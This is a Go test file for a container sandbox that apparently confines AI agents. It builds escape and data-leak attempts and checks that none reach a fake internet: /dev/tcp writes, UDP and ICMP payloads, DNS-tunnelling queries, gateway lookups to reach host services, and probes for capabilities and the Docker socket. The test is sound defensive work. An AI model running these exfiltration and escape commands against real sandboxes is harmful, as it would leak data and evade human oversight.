package main

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/av-project/av/scripts/fakenet"
	"github.com/av-project/av/scripts/require"
)

// attack is one try to get out of the box. What arrives in the fake internet decides,
// not the word of the program that tries.
type attack struct {
	name string
	kind fakenet.Kind
	line func(marker string) string
	// host runs the control on the host's network, for what an ordinary container of
	// this engine cannot do either.
	host bool
}

// send sends a datagram with python, which every family and port is the same to.
func send(family, address string, port int, payload string) string {
	return fmt.Sprintf(`python3 -c 'import socket; socket.socket(socket.%s, socket.SOCK_DGRAM).sendto(b"%s", ("%s", %d))'`, family, payload, address, port)
}

func attacks(internet *fakenet.Net) []attack {
	sink, sink6 := fakenet.SinkAddr.String(), fakenet.SinkAddr6.String()
	var all []attack
	for _, port := range []int{22, 443, 8080} {
		all = append(all, attack{name: fmt.Sprintf("TCP to port %d", port), kind: fakenet.TCP, line: func(m string) string {
			return fmt.Sprintf("(echo %s; sleep 0.2) >/dev/tcp/%s/%d", m, sink, port)
		}})
	}
	for _, port := range []int{53, 123, 443, fakenet.HighPort} {
		all = append(all, attack{name: fmt.Sprintf("UDP to port %d", port), kind: fakenet.UDP, line: func(m string) string {
			return send("AF_INET", sink, port, m)
		}})
	}
	all = append(all,
		attack{name: "a ping with a payload", kind: fakenet.ICMP, line: func(m string) string {
			return "ping -c1 -W1 -p " + hex.EncodeToString([]byte(m)) + " " + sink
		}},
		attack{name: "a DNS query to a name server", kind: fakenet.DNS, line: func(m string) string {
			return send("AF_INET", fakenet.DNSAddr.String(), 53, `\0\1\1\0\0\1\0\0\0\0\0\0\x0c`+m+`\4leak\4test\0\0\1\0\1`)
		}},
		attack{name: "a DNS query by TCP", kind: fakenet.DNS, line: func(m string) string {
			return `python3 -c 'import socket; s=socket.create_connection(("` + fakenet.DNSAddr.String() + `", 53), 5); s.sendall(b"\0\x28\0\1\1\0\0\1\0\0\0\0\0\0\x0c` + m + `\4leak\4test\0\0\1\0\1"); s.recv(1)'`
		}},
		attack{name: "a name through the engine's resolver", kind: fakenet.DNS, line: func(m string) string {
			return "getent hosts " + m + ".leak.test"
		}},
	)
	if internet.IPv6() {
		all = append(all, attack{name: "UDP by IPv6", kind: fakenet.UDP, host: true, line: func(m string) string {
			return send("AF_INET6", sink6, 443, m)
		}})
	}
	return all
}

func TestNothingLeavesTheBox(t *testing.T) {
	require.Net(t)
	_, env, av := home(t)
	internet, err := fakenet.New(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	defer internet.Close()
	image := baseImage(t, env, av)
	all := attacks(internet)
	for _, who := range []struct {
		name string
		uid  int
	}{{"as root in the box", 0}, {"as an ordinary user", 1000}} {
		t.Run(who.name, func(t *testing.T) {
			// All attacks go from one box: what one of them breaks, the others may use.
			markers := make([]string, len(all))
			var script strings.Builder
			for i, a := range all {
				markers[i] = strings.ToLower(rand.Text()[:12])
				fmt.Fprintf(&script, "timeout 5 bash -c %s; ", quote(a.line(markers[i])))
			}
			out := inBoxAs(t, env, av, who.uid, script.String()+"echo all tried as $(id -u)")
			if !strings.Contains(out, fmt.Sprintf("all tried as %d", who.uid)) {
				t.Fatalf("the attacks were not all tried:\n%s", out)
			}
			if err := internet.Settle(t.Context()); err != nil {
				t.Fatal(err)
			}
			for i, a := range all {
				if seen := internet.Sinks().Seen(markers[i]); len(seen) > 0 {
					t.Errorf("%s: LEAKED, the sink saw %s to %s", a.name, seen[0].Kind, seen[0].To)
				} else {
					t.Logf("%s: blocked", a.name)
				}
			}
		})
	}
	for _, a := range all {
		t.Run("control: "+a.name, func(t *testing.T) {
			marker := strings.ToLower(rand.Text()[:12])
			args := []string{"run", "--rm", "--dns", fakenet.DNSAddr.String()}
			if a.host {
				args = append(args, "--network", "host")
			}
			out, err := exec.Command("docker", append(args, image, "timeout", "5", "bash", "-c", a.line(marker))...).CombinedOutput()
			ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
			defer cancel()
			if _, failed := internet.Sinks().Wait(ctx, marker, a.kind); failed != nil {
				t.Errorf("without the walls it should arrive: %v (%v: %s)", failed, err, out)
			}
		})
	}
}

// inBoxAs runs a script in a box whose workspace belongs to uid.
func inBoxAs(t *testing.T, env []string, av string, uid int, script string) string {
	t.Helper()
	cmd := exec.Command(av, "run", "--isolation=container", "--", "bash", "-c", script)
	cmd.Env, cmd.Dir = env, t.TempDir()
	if err := os.Chown(cmd.Dir, uid, uid); err != nil {
		t.Fatal(err)
	}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("av run: %v\n%s", err, out)
	}
	return string(out)
}

// baseImage gives the id of av's base image, for controls.
func baseImage(t testing.TB, env []string, av string) string {
	t.Helper()
	first := exec.Command(av, "run", "--isolation=container", "--", "true")
	first.Env, first.Dir = env, t.TempDir()
	if out, err := first.CombinedOutput(); err != nil {
		t.Fatalf("av run: %v: %s", err, out)
	}
	out, err := exec.Command("docker", "image", "ls", "-q", "--filter", "label=av.image=av-base").Output()
	id, _, _ := strings.Cut(string(out), "\n")
	if err != nil || id == "" {
		t.Fatalf("find the base image: %v: %q", err, out)
	}
	return id
}

func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// On an internal network a service of the host that listens on every address can be
// reached through the gateway: the engine's own walls leave it open.
func TestHostsServicesAreOutOfReach(t *testing.T) {
	_, env, av := home(t)
	image := baseImage(t, env, av)
	listener, err := net.Listen("tcp4", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	defer listener.Close()
	var reached atomic.Int32
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			reached.Add(1)
			conn.Close()
		}
	}()
	port := listener.Addr().(*net.TCPAddr).Port
	// The gateway, as any process can read it: little-endian in /proc/net/route.
	visit := fmt.Sprintf(`gw=$(awk '$2 == "00000000" { print $3; exit }' /proc/net/route)
		timeout 5 bash -c "exec 3<>/dev/tcp/$((0x${gw:6:2})).$((0x${gw:4:2})).$((0x${gw:2:2})).$((0x${gw:0:2}))/%d && cat <&3"; echo tried`, port)
	if out := inBoxAs(t, env, av, 0, visit); !strings.Contains(out, "tried") {
		t.Fatalf("it was not tried: %s", out)
	}
	if n := reached.Load(); n != 0 {
		t.Errorf("LEAKED: the host's service was reached %d times", n)
	}
	network := "av-control-" + strings.ToLower(rand.Text()[:8])
	if out, err := exec.Command("docker", "network", "create", "--internal", network).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	defer exec.Command("docker", "network", "rm", network).Run()
	out, err := exec.Command("docker", "run", "--rm", "--network", network, image, "bash", "-c", visit).CombinedOutput()
	if err != nil || reached.Load() == 0 {
		t.Errorf("control: on an internal network without our walls it is reached: %v: %s", err, out)
	}
}

func TestBoxHoldsNoPower(t *testing.T) {
	_, env, av := home(t)
	image := baseImage(t, env, av)
	probes := map[string]string{
		"a capability":          `! grep -q '^Cap[A-Z][a-z]*:.*[1-9a-f]' /proc/self/status`,
		"gaining privileges":    `grep -q '^NoNewPrivs:.*1' /proc/self/status`,
		"a raw socket":          `! python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)' 2>/dev/null`,
		"a packet socket":       `! python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)' 2>/dev/null`,
		"taking a folder over":  `! chown 1234 /workspace 2>/dev/null`,
		"a hypervisor socket":   `! python3 -c 'import socket; socket.socket(40, socket.SOCK_STREAM)' 2>/dev/null`,
		"becoming another user": `! python3 -c 'import os; os.setuid(65533)' 2>/dev/null`,
		"making a device":       `! mknod /tmp/null c 1 3 2>/dev/null`,
	}
	var script strings.Builder
	for name, probe := range probes {
		fmt.Fprintf(&script, "(%s) && echo 'no: %s' || echo 'yes: %s'; ", probe, name, name)
	}
	out := inBoxAs(t, env, av, 0, script.String())
	control, err := exec.Command("docker", "run", "--rm", "--security-opt", "seccomp=unconfined", "-v", t.TempDir()+":/workspace", image, "bash", "-c", script.String()).CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %s", err, control)
	}
	for name := range probes {
		if !strings.Contains(out, "no: "+name+"\n") {
			t.Errorf("the box holds %s:\n%s", name, out)
		}
		if !strings.Contains(string(control), "yes: "+name+"\n") {
			t.Errorf("control: an ordinary container holds %s:\n%s", name, control)
		}
	}
	// What the agent could use to talk to the engine or to other processes of the host.
	for _, path := range []string{"/var/run/docker.sock", "/run/containerd/containerd.sock"} {
		if out := inBoxAs(t, env, av, 0, "test -e "+path+" && echo there || echo absent"); !strings.Contains(out, "absent") {
			t.Errorf("%s: %s", path, out)
		}
	}
}
